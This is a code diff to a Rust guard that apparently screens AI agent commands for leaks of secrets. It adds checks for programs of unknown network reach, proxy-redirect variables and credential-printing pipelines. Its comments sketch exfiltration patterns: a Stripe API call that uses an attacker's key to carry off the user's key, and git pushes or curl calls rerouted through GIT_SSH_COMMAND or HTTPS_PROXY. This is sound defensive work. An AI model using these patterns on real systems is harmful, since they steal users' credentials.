@@ -253,7 +253,7 @@ fn names_a_credential(name: &str) -> bool {
 /// sk_live_ATTACKER: api.stripe.com -d description=<the user's key>`): whatever it sends goes
 /// to the issuer, but into another account. A credential left in a variable the command does
 /// not set is taken to be the user's own.
-fn presents_a_foreign_credential(prepared: &PreparedSink, view: &SessionView) -> bool {
+fn presents_a_foreign_credential(prepared: &PreparedSink, view: &SessionView, cfg: &Config) -> bool {
     if view.secrets.is_empty() {
         return false;
     }
@@ -267,8 +267,10 @@ fn presents_a_foreign_credential(prepared: &PreparedSink, view: &SessionView) ->
         .any(|c| {
             let v = variant("credential", &c, String::new(), prepared.key);
             !match_secrets(&[v], view).iter().any(|m| {
+                // The same bar as a whole secret leaving (windows are sampled: a full copy
+                // need not mark every char).
                 let core = view.secrets[m.idx].core_len;
-                m.cov.iter().map(|&x| x as usize).sum::<usize>() * 10 >= core * 9
+                m.cov.iter().map(|&x| x as usize).sum::<usize>() >= cfg.fragment_deny_chars.min(core)
             })
         })
 }
@@ -329,6 +331,18 @@ fn is_tainted<'v>(path: &str, view: &'v SessionView) -> Option<&'v Taint> {
     view.taints.iter().filter(|t| t.kinds.holds_data()).find(|t| names_taint(p, &t.path))
 }
 
+/// Code written this session that reads credentials (and may print them): what it outputs
+/// down a pipe carries them.
+fn prints_credentials<'v>(path: &str, view: &'v SessionView) -> Option<&'v Taint> {
+    let p = path.trim_start_matches("./");
+    view.taints
+        .iter()
+        .filter(|t| {
+            t.kinds.contains(&TaintKind::ReadsSensitive) || t.kinds.contains(&TaintKind::ReadsSensitiveAndSends)
+        })
+        .find(|t| names_taint(p, &t.path))
+}
+
 /// `p` (as a command names it) is the tainted file: the same path, a relative tail of it, or
 /// for a folder entry (`.git/hooks/`) any file inside.
 fn names_taint(p: &str, tainted: &str) -> bool {
@@ -365,6 +379,12 @@ pub struct PreparedSink {
     /// Per argument (by its path), the short values it sends, for pieces across calls.
     pieces: Vec<(String, String)>,
     key: u64,
+    /// The call is a sink only because it runs a program of unknown reach (no handler knows
+    /// it, it is not on the offline list): a whole secret handed to it is a question, not a
+    /// block, and fragments or file content it is given say nothing.
+    unknown_reach: bool,
+    /// A variable set on the line that reroutes connections (`HTTPS_PROXY`, `GIT_SSH_COMMAND`).
+    redirect_variable: Option<String>,
 }
 
 impl PreparedSink {
@@ -392,6 +412,8 @@ pub fn prepare(call: &Call, class: ToolClass, cfg: &Config, key: u64) -> Option<
     let (mut named, mut copies) = (Vec::new(), Vec::new());
     let mut implicit = Vec::new();
     let mut runs_only = false;
+    let mut unknown_reach = false;
+    let mut redirect_variable = None;
     let (dest, facts) = match class.sink {
         SinkClass::None | SinkClass::Local => return None,
         SinkClass::External => (destination(call, class.source, &fields, cfg), None),
@@ -419,14 +441,26 @@ pub fn prepare(call: &Call, class: ToolClass, cfg: &Config, key: u64) -> Option<
                 }
             }
             // `GOPROXY=https://host/... go mod download`: the variable names where it goes.
-            let redirect_variable = shell::proxy_variable(cmd);
+            redirect_variable = shell::proxy_variable(cmd);
             if redirect_variable.is_some() {
                 scripts_only = false;
+            }
+            // A program this guard knows nothing about may use the network: what the command
+            // hands it is checked, and at most asked about (see `evaluate`).
+            if scripts_only && !facts.unknown_programs.is_empty() {
+                scripts_only = false;
+                unknown_reach = true;
             }
             if scripts_only && scripts.is_empty() && named.is_empty() && implicit.is_empty() {
                 return None;
             }
             let mut dest = shell_destination(&facts, cfg);
+            if unknown_reach {
+                let names: Vec<&str> = facts.unknown_programs.iter().map(|p| p.name.as_str()).take(3).collect();
+                dest.unknown = true;
+                dest.all_local = false;
+                dest.labels.push(format!("wherever {} sends it, if it uses the network", names.join(", ")));
+            }
             for h in &text_hosts {
                 if dest.hosts.contains(h) {
                     continue;
@@ -457,7 +491,7 @@ pub fn prepare(call: &Call, class: ToolClass, cfg: &Config, key: u64) -> Option<
                 dest.all_local = false;
                 dest.labels.push("wherever the client configuration it writes sends it".into());
             }
-            if let Some(var) = redirect_variable {
+            if let Some(var) = &redirect_variable {
                 // `HTTPS_PROXY=... curl ...`: every request goes through that proxy.
                 dest.unknown = true;
                 dest.all_local = false;
@@ -488,6 +522,13 @@ pub fn prepare(call: &Call, class: ToolClass, cfg: &Config, key: u64) -> Option<
     }
     if let (Some(f), Some(cmd)) = (&facts, call.command()) {
         unverified.extend(shell_unknowns(f, cmd));
+        for p in &f.unknown_programs {
+            unverified.extend(
+                p.sensitive_operands
+                    .iter()
+                    .map(|o| format!("it hands {o} to {}, a program this guard does not know", p.name)),
+            );
+        }
     }
     let assignments = call.command().map(shell::assignments).unwrap_or_default();
     let cwd = call.cwd.clone().unwrap_or_default();
@@ -521,6 +562,8 @@ pub fn prepare(call: &Call, class: ToolClass, cfg: &Config, key: u64) -> Option<
         cwd,
         pieces,
         key,
+        unknown_reach,
+        redirect_variable,
     })
 }
 
@@ -580,7 +623,7 @@ pub fn evaluate(call: &Call, prepared: &PreparedSink, view: &SessionView, cfg: &
         &with_pieces
     };
 
-    let foreign_account = presents_a_foreign_credential(prepared, view);
+    let foreign_account = presents_a_foreign_credential(prepared, view, cfg);
     for m in match_secrets(vars, view) {
         let s = &view.secrets[m.idx];
         let call_chars: usize = m.cov.iter().map(|&c| c as usize).sum();
@@ -692,10 +735,32 @@ pub fn evaluate(call: &Call, prepared: &PreparedSink, view: &SessionView, cfg: &
             hits.extend(unverified_hit(&unknowns, view, cfg, &to));
         }
     }
+    if prepared.unknown_reach {
+        cap_unknown_reach(&mut hits, prepared);
+    }
     apply_approvals(&mut hits, view);
     out.verdict = policy::decide(&hits, &call.label);
     out.hits = hits;
     out
+}
+
+/// A program of unknown reach may or may not send what it is given: a whole secret (or card,
+/// SSN) handed to it, or a credential file, asks; fragments and private text say nothing.
+fn cap_unknown_reach(hits: &mut Vec<Hit>, prepared: &PreparedSink) {
+    // Scripts and files the command runs or sends are judged as always; only what its own
+    // text hands the unknown program is capped.
+    hits.retain(|h| {
+        !matches!(h.kind, FlowKind::SecretFragment | FlowKind::Pii | FlowKind::PrivateContent | FlowKind::Collector)
+    });
+    let names: Vec<&str> =
+        prepared.facts.iter().flat_map(|f| f.unknown_programs.iter()).map(|p| p.name.as_str()).take(3).collect();
+    for h in hits.iter_mut().filter(|h| matches!(h.kind, FlowKind::Secret | FlowKind::CardSsn)) {
+        if h.action == Action::Deny {
+            h.action = Action::Ask;
+        }
+        let why = format!("{} is a program this guard does not know: it may send it", names.join(", "));
+        h.note = if h.note.is_empty() { why } else { format!("{}; {why}", h.note) };
+    }
 }
 
 /// The user approved this data to this destination (`mcpproxy allow`, or an accepted ask):
@@ -796,6 +861,10 @@ fn repository_sent_to_a_place_it_names(prepared: &PreparedSink, cfg: &Config) ->
             out.push("it packs this repository (git archive/bundle) in a command that uses the network".to_owned());
         }
         let Some(at) = argv.iter().position(|a| a == "push") else { continue };
+        if let Some(var) = &prepared.redirect_variable {
+            // `GIT_SSH_COMMAND="ssh -o ProxyCommand=..." git push`: the push goes where it says.
+            out.push(format!("it pushes this repository through {var}, which decides where the connection goes"));
+        }
         let Some(target) = argv[at + 1..].iter().find(|a| !a.starts_with('-')) else { continue };
         let host = if target.contains("://") {
             crate::flow::destination::url_host(target)
@@ -1027,6 +1096,8 @@ fn committed_taints<'v>(facts: &shell::ShellFacts, view: &'v SessionView) -> Vec
     view.taints
         .iter()
         .filter(|t| t.kinds.holds_data())
+        // Settings, never in a commit (a commit message's pseudo-path is one).
+        .filter(|t| t.path != runs::GIT_CONFIG_CODE && t.path != crate::flow::written_code::CLIENT_CONFIG)
         .filter(|t| {
             !classify::is_sensitive_path(&t.path)
                 || facts.git_commit_paths.iter().any(|p| t.path == *p || t.path.ends_with(&format!("/{p}")))
@@ -1138,6 +1209,9 @@ fn path_flows(
                     flow(format!("sensitive file {p}"), how, &format!("command ({})", n.tool));
                 } else if let Some(t) = is_tainted(p, view) {
                     flow(format!("file {p} (holds {})", t.kinds.shown()), how, &format!("command ({})", n.tool));
+                } else if let Some(t) = prints_credentials(p, view).filter(|_| how == "a pipeline") {
+                    let what = format!("the output of {} (written this session to read credentials)", t.path);
+                    flow(what, how, &format!("command ({})", n.tool));
                 } else if collector {
                     flow(format!("file {p}"), how, &format!("command ({})", n.tool));
                 }
